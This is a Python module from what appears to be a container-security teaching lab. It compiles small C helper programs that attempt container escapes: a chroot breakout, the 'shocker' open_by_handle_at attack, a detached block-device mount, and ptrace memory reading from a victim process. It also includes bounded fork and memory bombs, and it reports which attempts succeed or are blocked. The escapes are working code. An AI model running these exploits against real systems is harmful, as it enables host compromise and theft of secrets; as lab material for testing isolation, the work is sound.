"""Small static C programs the attacks run inside containers (busybox has no ptrace, fsopen or
open_by_handle_at). Compiled with `gcc -static` at first use into a cache under the lib dir,
keyed by the source's hash; nothing binary is committed.

Each program prints lines starting with OK:, BLOCKED:, SECRET:, INFO: so the runner (and a
student) can read what happened; BLOCKED: lines carry the errno text of the call that failed.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess

from engine import paths
from engine.errors import EngineError

_PRELUDE = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>
static void blocked(const char *what) { printf("BLOCKED: %s: %s (errno %d)\n", what, strerror(errno), errno);
                                        fflush(stdout); exit(1); }
static void print_file(int fd, const char *label) {
    char buf[512]; ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0) blocked("read");
    buf[n] = 0; while (n > 0 && (buf[n-1] == '\n')) buf[--n] = 0;
    printf("%s: %s\n", label, buf); fflush(stdout);
}
"""

SOURCES: dict[str, str] = {
    # chroot breakout: chroot into a subdirectory keeps the cwd outside it; ".." from there climbs
    # to the real root of the mount namespace, and chroot(".") makes it the process's root.
    "chroot_escape": r"""
int main(int argc, char **argv) {
    if (argc < 2) return 2;
    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") < 0) blocked("chroot /tmp/jail");
    for (int i = 0; i < 256; i++) if (chdir("..") < 0) blocked("chdir ..");
    if (chroot(".") < 0) blocked("chroot .");
    char path[4096];
    snprintf(path, sizeof path, "%s/secret.txt", argv[1]);
    int fd = open(path, O_RDONLY);
    if (fd < 0) { printf("INFO: after climbing, %s is not there: still inside the container's root\n", path);
                  blocked("open host secret"); }
    print_file(fd, "SECRET");
    snprintf(path, sizeof path, "%s/chroot.marker", argv[1]);
    int m = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (m >= 0) { dprintf(m, "written from a container after a chroot breakout\n"); close(m);
                  printf("OK: wrote %s on the host\n", path); }
    return 0;
}
""",
    # shocker: open_by_handle_at with a guessed handle (ext4's root: inode 2, generation 0) relative
    # to any file of the host filesystem that is bind-mounted in (/etc/hostname is).
    "shocker": r"""
struct h8 { unsigned int handle_bytes; int handle_type; unsigned int ino, gen; };
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    int mfd = open(argv[1], O_RDONLY);
    if (mfd < 0) blocked("open mount file");
    struct h8 h = { 8, 1 /* FILEID_INO32_GEN */, 2 /* EXT4_ROOT_INO */, 0 };
    int root = syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_DIRECTORY);
    if (root < 0) blocked("open_by_handle_at(root inode 2)");
    printf("OK: open_by_handle_at gave a descriptor of the host filesystem's root directory\n");
    int fd = openat(root, argv[2], O_RDONLY);
    if (fd < 0) blocked("openat host secret");
    print_file(fd, "SECRET");
    return 0;
}
""",
    # read a marker through a read-only mount of a block device, made with the new mount API so
    # nothing is attached anywhere (the mount lives only as a file descriptor).
    "diskmount": r"""
#include <linux/mount.h>
int main(int argc, char **argv) {
    if (argc < 4) return 2;
    int fs = syscall(SYS_fsopen, argv[2], FSOPEN_CLOEXEC);
    if (fs < 0) blocked("fsopen");
    if (syscall(SYS_fsconfig, fs, FSCONFIG_SET_STRING, "source", argv[1], 0) < 0) blocked("fsconfig source");
    if (syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0) blocked("fsconfig create");
    int m = syscall(SYS_fsmount, fs, FSMOUNT_CLOEXEC, MOUNT_ATTR_RDONLY);
    if (m < 0) blocked("fsmount (read-only)");
    printf("OK: mounted %s read-only (a detached mount: nothing in any mount table)\n", argv[1]);
    int fd = openat(m, argv[3], O_RDONLY);
    if (fd < 0) blocked("openat host secret");
    print_file(fd, "SECRET");
    return 0;
}
""",
    # a sacrificial process on the host holding a secret in memory (read from stdin, so it is in
    # no /proc file); prints its pid and the secret's address.
    "victim": r"""
static char secret[64];
int main(int argc, char **argv) {
    if (!fgets(secret, sizeof secret, stdin)) return 2;
    secret[strcspn(secret, "\n")] = 0;
    printf("%d %p %zu\n", getpid(), (void *)secret, strlen(secret)); fflush(stdout);
    sleep(argc > 1 ? atoi(argv[1]) : 30);
    return 0;
}
""",
    # ptrace another process and read its memory (PTRACE_PEEKDATA), then detach.
    "ptrace_peek": r"""
int main(int argc, char **argv) {
    if (argc < 4) return 2;
    pid_t pid = atoi(argv[1]); unsigned long addr = strtoul(argv[2], 0, 16); int len = atoi(argv[3]);
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) blocked("ptrace(PTRACE_ATTACH)");
    int st; waitpid(pid, &st, __WALL);
    printf("OK: attached to pid %d\n", pid);
    char buf[72] = {0};
    for (int i = 0; i < len && i < 64; i += sizeof(long)) {
        errno = 0; long w = ptrace(PTRACE_PEEKDATA, pid, addr + i, 0);
        if (errno) blocked("ptrace(PTRACE_PEEKDATA)");
        memcpy(buf + i, &w, sizeof w);
    }
    buf[len < 64 ? len : 64] = 0;
    ptrace(PTRACE_DETACH, pid, 0, 0);
    printf("SECRET: %s\n", buf);
    return 0;
}
""",
    # stand-in for a runtime process entering a container (runc init during `runc exec`): joins the
    # container's PID namespace, takes the container's capabilities, optionally makes itself
    # non-dumpable as labtui's init does, lives a few seconds, exits.
    "standin": r"""
#include <linux/capability.h>
int main(int argc, char **argv) {
    if (argc < 4) return 2;
    char p[64]; snprintf(p, sizeof p, "/proc/%s/ns/pid", argv[1]);
    int fd = open(p, O_RDONLY);
    if (fd < 0 || setns(fd, CLONE_NEWPID) < 0) blocked("setns pid");
    pid_t c = fork();
    if (c == 0) {
        if (!strcmp(argv[2], "hardened")) prctl(PR_SET_DUMPABLE, 0);
        struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
        struct __user_cap_data_struct d[2] = {{0xa80425fb, 0xa80425fb, 0}, {0, 0, 0}};
        if (syscall(SYS_capset, &h, d) < 0) blocked("capset");
        sleep(atoi(argv[3]));
        _exit(0);
    }
    int st; waitpid(c, &st, 0);
    return 0;
}
""",
    # bounded fork bomb: up to N children that wait; report how many the kernel allowed.
    "forkbomb": r"""
int main(int argc, char **argv) {
    int n = argc > 1 ? atoi(argv[1]) : 200, k = 0;
    pid_t kids[4096];
    for (; k < n && k < 4096; k++) {
        pid_t c = fork();
        if (c < 0) { printf("INFO: fork %d failed: %s\n", k + 1, strerror(errno)); break; }
        if (c == 0) { pause(); _exit(0); }
        kids[k] = c;
    }
    printf("FORKED: %d of %d\n", k, n); fflush(stdout);
    for (int i = 0; i < k; i++) kill(kids[i], SIGKILL);
    for (int i = 0; i < k; i++) waitpid(kids[i], 0, 0);
    return 0;
}
""",
    # bounded memory bomb: touch up to N MiB, reporting progress as it goes.
    "membomb": r"""
int main(int argc, char **argv) {
    int n = argc > 1 ? atoi(argv[1]) : 256;
    for (int i = 1; i <= n; i++) {
        char *p = malloc(1 << 20);
        if (!p) { printf("INFO: malloc failed at %d MiB\n", i); return 1; }
        memset(p, i, 1 << 20);
        if (i % 16 == 0) { printf("ALLOCATED: %d MiB\n", i); fflush(stdout); }
    }
    printf("DONE: %d MiB\n", n);
    return 0;
}
""",
}


def cache_dir():
    return paths.lib_dir() / "attack-lab" / "bin"


def build(name: str) -> str:
    """Path of the compiled helper, compiling it on first use (gcc -static)."""
    src = _PRELUDE + SOURCES[name]
    digest = hashlib.sha256(src.encode()).hexdigest()[:16]
    out = cache_dir() / f"{name}-{digest}"
    if out.exists():
        return str(out)
    if shutil.which("gcc") is None:
        raise EngineError("the attack lab needs gcc (with static glibc) to build its helpers: apt-get install gcc")
    out.parent.mkdir(parents=True, exist_ok=True)
    c_file = out.with_suffix(".c")
    c_file.write_text(src)
    tmp = out.with_name(f".{out.name}.{os.getpid()}")
    p = subprocess.run(["gcc", "-static", "-O2", "-o", str(tmp), str(c_file)], capture_output=True, text=True)
    if p.returncode != 0:
        raise EngineError(f"cannot build attack helper {name}: {p.stderr.strip()[-400:]}")
    os.rename(tmp, out)
    return str(out)
